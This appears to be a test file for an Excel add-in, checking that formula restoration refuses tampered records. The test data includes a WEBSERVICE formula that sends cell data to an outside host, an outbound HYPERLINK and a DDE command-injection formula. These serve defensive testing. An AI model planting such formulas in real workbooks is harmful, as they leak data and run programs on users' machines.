/**
 * Restore trusts nothing the originals sheet holds: a sender can write anything on a very hidden sheet. An
 * original is written back only when it calls IOMT.*, converting it again gives exactly the portable formula the
 * cell holds now, and the cell is a single cell of an existing sheet that is not the add-in's. Every other record
 * is listed with its reason, and "restored" counts only what was written. On the strict Excel stand-in.
 */
import { useFakeExcel } from "../support/fake-excel";
import { INDEX } from "../../src/data/bundled";
import { OWN_SHEETS } from "../../src/core/excel";
import { convertFormula, originalsCount } from "../../src/core/portable";
import { makePortable, restoreFormulas } from "../../src/excel/portable";

const ORIGINALS = OWN_SHEETS.originals.base;
const LOOKUP = OWN_SHEETS.lookup.base;

const fake = useFakeExcel(["Model"], (wb) => {
  const model = wb.sheet("Model");
  model.setCell("A1", '=IOMT.VALUE("USA",2026)');
  model.setCell("A2", "=IOMT.CAGR(28454,79107,5)");
  // cells that never held an IOMT formula
  model.setCells("B1", [["=1+1"], ["=2+2"], ["=3+3"], ["=4+4"], ["=5+5"], ["=6+6"]]);
});
beforeEach(async () => {
  await makePortable(INDEX, "workbook");
});

const ctx = { tables: [], dataSheet: LOOKUP, file: false };
const portableOf = (f: string) => convertFormula(f, INDEX, ctx).formula;

/** Appends records to the originals sheet as a sender would (text cells), and sets its count. */
function tamper(rows: string[][]): void {
  const sheet = fake.wb.sheet(ORIGINALS);
  const count = Number(sheet.cell("G1").value);
  sheet.setCells(
    `A${count + 2}`,
    rows.map((r) => [...r, "", ""].map((x) => (x === "" ? "" : `'${x}`))),
  );
  sheet.setCell("G1", count + rows.length);
}

test("refuses WEBSERVICE, HYPERLINK and DDE originals, originals for cells that never held IOMT, and the add-in's own sheets", async () => {
  const model = fake.wb.sheet("Model");
  const portableA1 = model.cell("A1").formula;
  tamper([
    ["Model", "B1", "excel", '=WEBSERVICE("https://example.org/?"&A1)', "=1+1"],
    ["Model", "B2", "excel", '=HYPERLINK("https://example.org","open")', "=2+2"],
    ["Model", "B3", "excel", "=cmd|' /C calc'!A0", "=3+3"],
    // an IOMT original for a cell that never held one: its portable formula is not the cell's
    ["Model", "B4", "excel", '=IOMT.VALUE("USA",2029)', "=4+4"],
    // an IOMT call with a payload beside it: the cell would have to hold the payload already
    ["Model", "B5", "excel", '=IOMT.RATE("NA")+WEBSERVICE("x")', portableOf('=IOMT.RATE("NA")+WEBSERVICE("x")')],
    // the add-in's own sheets
    [LOOKUP, "C2", "excel", '=IOMT.VALUE("USA",2024)', portableOf('=IOMT.VALUE("USA",2024)')],
    [ORIGINALS, "A1", "excel", '=IOMT.VALUE("USA",2024)', portableOf('=IOMT.VALUE("USA",2024)')],
    // addresses that are not one cell of a worksheet, and a sheet that is not there
    ["Model", "B3:C4", "excel", '=IOMT.VALUE("USA")', "=1+1"],
    ["Model", "ZZZZ99999999", "excel", '=IOMT.VALUE("USA")', "=1+1"],
    ["Gone", "A1", "excel", '=IOMT.VALUE("USA")', portableOf('=IOMT.VALUE("USA")')],
  ]);
  const lookupBefore = JSON.stringify([...fake.wb.sheet(LOOKUP).cells]);
  const result = await restoreFormulas(INDEX);

  expect(result.restored).toBe(2);
  expect(model.cell("A1").formula).toBe('=IOMT.VALUE("USA",2026)');
  expect(model.cell("A2").formula).toBe("=IOMT.CAGR(28454,79107,5)");
  expect(portableA1).not.toBe(model.cell("A1").formula);
  for (const [i, cell] of ["B1", "B2", "B3", "B4", "B5", "B6"].entries())
    expect(model.cell(cell).formula).toBe(`=${i + 1}+${i + 1}`);
  expect(JSON.stringify([...fake.wb.sheet(LOOKUP).cells])).toBe(lookupBefore);

  const why = (cell: string, sheet = "Model") =>
    [...result.refused, ...result.skipped].find((r) => r.sheet === sheet && r.cell === cell)?.reason;
  expect(why("B1")).toBe("the kept formula does not call an IOMT function");
  expect(why("B2")).toBe("the kept formula does not call an IOMT function");
  expect(why("B3")).toBe("the kept formula does not call an IOMT function");
  expect(why("B4")).toBe("the kept formula does not convert to the portable formula kept with it");
  expect(why("B5")).toBe("it was edited after it was made portable");
  expect(why("C2", LOOKUP)).toBe("it is on one of the add-in's own sheets");
  expect(why("A1", ORIGINALS)).toBe("it is on one of the add-in's own sheets");
  expect(why("B3:C4")).toBe("its cell is not a single cell of a worksheet");
  expect(why("ZZZZ99999999")).toBe("its cell is not a single cell of a worksheet");
  expect(why("A1", "Gone")).toBe("its sheet is not in the workbook");
  expect(result.refused).toHaveLength(9);
  expect(result.skipped).toHaveLength(1);
});

test("a count that is not a whole number within a worksheet's rows (1e300) is refused at once, and nothing is written", async () => {
  fake.wb.sheet(ORIGINALS).setCell("G1", 1e300);
  const before = JSON.stringify(fake.wb.sheets.map((s) => [...s.cells]));
  const result = await restoreFormulas(INDEX);
  expect(result.restored).toBe(0);
  expect(result.problem).toMatch(/count of records \(1e\+300\) is not a whole number from 0 to 1048575/);
  expect(JSON.stringify(fake.wb.sheets.map((s) => [...s.cells]))).toBe(before);
  for (const bad of [1e300, Infinity, -1, 2.5, 1048576, "12x", "9".repeat(400)])
    expect(originalsCount(["Sheet", "Cell", "Form", "Original", "Portable", "Records", bad]).problem).toBeDefined();
  expect(originalsCount(["Sheet", "Cell", "Form", "Original", "Portable", "Records", 1048575])).toEqual({
    count: 1048575,
  });
});

test("make portable over an originals sheet whose count does not validate says so and keeps this run's originals", async () => {
  fake.wb.sheet(ORIGINALS).setCell("G1", "9".repeat(400));
  fake.wb.sheet("Model").setCell("C1", '=IOMT.RATE("NA")');
  const result = await makePortable(INDEX, "workbook");
  expect(result.keptProblem).toMatch(/count of records .* is not a whole number/);
  expect(result.converted.map((c) => c.cell)).toEqual(["C1"]);
  expect(fake.wb.sheet(ORIGINALS).cell("G1").value).toBe(1);
  const back = await restoreFormulas(INDEX);
  expect(back.restored).toBe(1);
  expect(fake.wb.sheet("Model").cell("C1").formula).toBe('=IOMT.RATE("NA")');
});
